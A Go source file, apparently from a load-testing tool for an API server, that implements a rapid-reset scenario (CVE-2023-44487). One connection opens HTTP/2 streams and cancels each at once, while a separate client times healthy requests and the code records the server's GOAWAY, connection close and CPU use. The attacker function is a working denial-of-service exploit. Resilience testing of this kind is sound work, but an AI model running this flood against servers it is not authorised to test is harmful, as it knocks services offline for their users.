package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"k8s.io/client-go/rest"

	"github.com/apiloom/apiloom/cmd/apiloom-load/internal/accounting"
)

// rapidResetResult is the outcome of the rapidreset scenario: one
// connection opening streams and resetting them at once (CVE-2023-44487)
// while a healthy client, on its own connection, times small requests.
type rapidResetResult struct {
	Duration time.Duration `json:"duration"`
	// StreamsOpened and Resets are what the attacker sent before the
	// server closed the connection or the duration ended.
	StreamsOpened int64 `json:"streamsOpened"`
	Resets        int64 `json:"resets"`
	// GoAway is the error code of the server's GOAWAY, if it sent one,
	// and GoAwayAfter when, from the start of the attack.
	GoAway      string        `json:"goAway,omitempty"`
	GoAwayAfter time.Duration `json:"goAwayAfter,omitempty"`
	// ClosedAfter is when the server closed the attacking connection; 0
	// if it never did.
	ClosedAfter time.Duration `json:"closedAfter,omitempty"`
	// Healthy is the healthy client's request latency before and during
	// the attack.
	HealthyBefore accounting.Latencies `json:"healthyBefore"`
	HealthyDuring accounting.Latencies `json:"healthyDuring"`
	HealthyErrors int64                `json:"healthyErrors"`
	ServerCPU     time.Duration        `json:"serverCPU"`
}

// runRapidReset measures healthy requests for a while, then again while
// the attack runs.
func runRapidReset(ctx context.Context, c *config, t *target, s *sampler, logf logFunc) (*rapidResetResult, error) {
	res := &rapidResetResult{Duration: c.RapidResetDuration}
	u, err := url.Parse(t.collection + "?limit=1")
	if err != nil {
		return nil, err
	}
	logf("rapidreset: healthy requests alone for %v", c.RapidResetWarmup)
	before, _, err := timeHealthy(ctx, t, u.String(), c.RapidResetWarmup)
	if err != nil {
		return nil, err
	}
	res.HealthyBefore = before

	tlsCfg, err := rest.TLSConfigFor(t.cfg)
	if err != nil {
		return nil, err
	}
	if tlsCfg == nil {
		tlsCfg = &tls.Config{}
	}
	tlsCfg = tlsCfg.Clone()
	tlsCfg.NextProtos = []string{"h2"}
	if tlsCfg.ServerName == "" {
		tlsCfg.ServerName = u.Hostname()
	}
	conn, err := tls.Dial("tcp", u.Host, tlsCfg)
	if err != nil {
		return nil, fmt.Errorf("attacker: %w", err)
	}
	defer conn.Close()

	logf("rapidreset: attacking one connection for %v while timing healthy requests", c.RapidResetDuration)
	startCPU := s.sample(ctx)
	start := time.Now()
	attackCtx, stop := context.WithTimeout(ctx, c.RapidResetDuration)
	defer stop()
	var wg sync.WaitGroup
	a := &attacker{conn: conn, start: start}
	wg.Go(func() { a.read() })
	wg.Go(func() { a.attack(attackCtx, u, t.cfg.BearerToken) })
	during, errs, err := timeHealthy(attackCtx, t, u.String(), c.RapidResetDuration)
	stop()
	_ = conn.Close()
	wg.Wait()
	if err != nil && !errors.Is(err, context.DeadlineExceeded) {
		return nil, err
	}
	res.HealthyDuring, res.HealthyErrors = during, errs
	res.StreamsOpened, res.Resets = a.opened.Load(), a.resets.Load()
	res.GoAway, res.GoAwayAfter, res.ClosedAfter = a.goAway, a.goAwayAfter, a.closedAfter
	res.ServerCPU = s.sample(ctx).CPU - startCPU.CPU
	logf("rapidreset: %d streams opened and reset; GOAWAY %q after %v, closed after %v; healthy p50/p99 %v/%v before, %v/%v during (%d errors)",
		res.StreamsOpened, res.GoAway, res.GoAwayAfter.Round(time.Millisecond), res.ClosedAfter.Round(time.Millisecond),
		res.HealthyBefore.P50, res.HealthyBefore.P99, res.HealthyDuring.P50, res.HealthyDuring.P99, res.HealthyErrors)
	return res, nil
}

// timeHealthy sends one request at a time on the target's own connection
// for d (or until ctx ends) and returns the latencies and the failures.
func timeHealthy(ctx context.Context, t *target, u string, d time.Duration) (accounting.Latencies, int64, error) {
	var lat []time.Duration
	var errs int64
	end := time.Now().Add(d)
	for time.Now().Before(end) && ctx.Err() == nil {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, u, nil)
		if err != nil {
			return accounting.Latencies{}, 0, err
		}
		t0 := time.Now()
		resp, err := t.plain.Do(req)
		if err == nil {
			_, err = io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			if err == nil && resp.StatusCode != http.StatusOK {
				err = fmt.Errorf("HTTP %d", resp.StatusCode)
			}
		}
		if err != nil {
			if ctx.Err() != nil {
				break
			}
			errs++
			continue
		}
		lat = append(lat, time.Since(t0))
	}
	return accounting.Summarize(lat), errs, nil
}

// attacker is the rapid-reset client: one goroutine writes HEADERS and
// RST_STREAM pairs, another reads whatever the server sends.
type attacker struct {
	conn  net.Conn
	start time.Time

	opened, resets atomic.Int64
	// Set by read, read after both goroutines end.
	goAway      string
	goAwayAfter time.Duration
	closedAfter time.Duration
}

// attack writes the preface, then HEADERS for a GET and an immediate
// RST_STREAM(CANCEL) on each new stream, as fast as the connection takes
// them, until ctx ends or a write fails.
func (a *attacker) attack(ctx context.Context, u *url.URL, token string) {
	w := &lockedWriter{w: a.conn}
	if _, err := io.WriteString(w, http2.ClientPreface); err != nil {
		return
	}
	fr := http2.NewFramer(w, nil)
	if err := fr.WriteSettings(); err != nil {
		return
	}
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	fields := [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", u.Host}, {":path", u.RequestURI()}}
	if token != "" {
		fields = append(fields, [2]string{"authorization", "Bearer " + token})
	}
	for _, f := range fields {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	block := hb.Bytes()
	for id := uint32(1); ctx.Err() == nil && id < 1<<31-2; id += 2 {
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
			return
		}
		a.opened.Add(1)
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return
		}
		a.resets.Add(1)
	}
}

// read consumes the server's frames, noting its GOAWAY and when the
// connection closes.
func (a *attacker) read() {
	fr := http2.NewFramer(io.Discard, a.conn)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			if !errors.Is(err, net.ErrClosed) {
				a.closedAfter = time.Since(a.start)
			}
			return
		}
		if ga, ok := f.(*http2.GoAwayFrame); ok && a.goAway == "" {
			a.goAway, a.goAwayAfter = ga.ErrCode.String(), time.Since(a.start)
		}
	}
}

// lockedWriter serialises writes; the framer writes one frame per call.
type lockedWriter struct {
	mu sync.Mutex
	w  io.Writer
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}
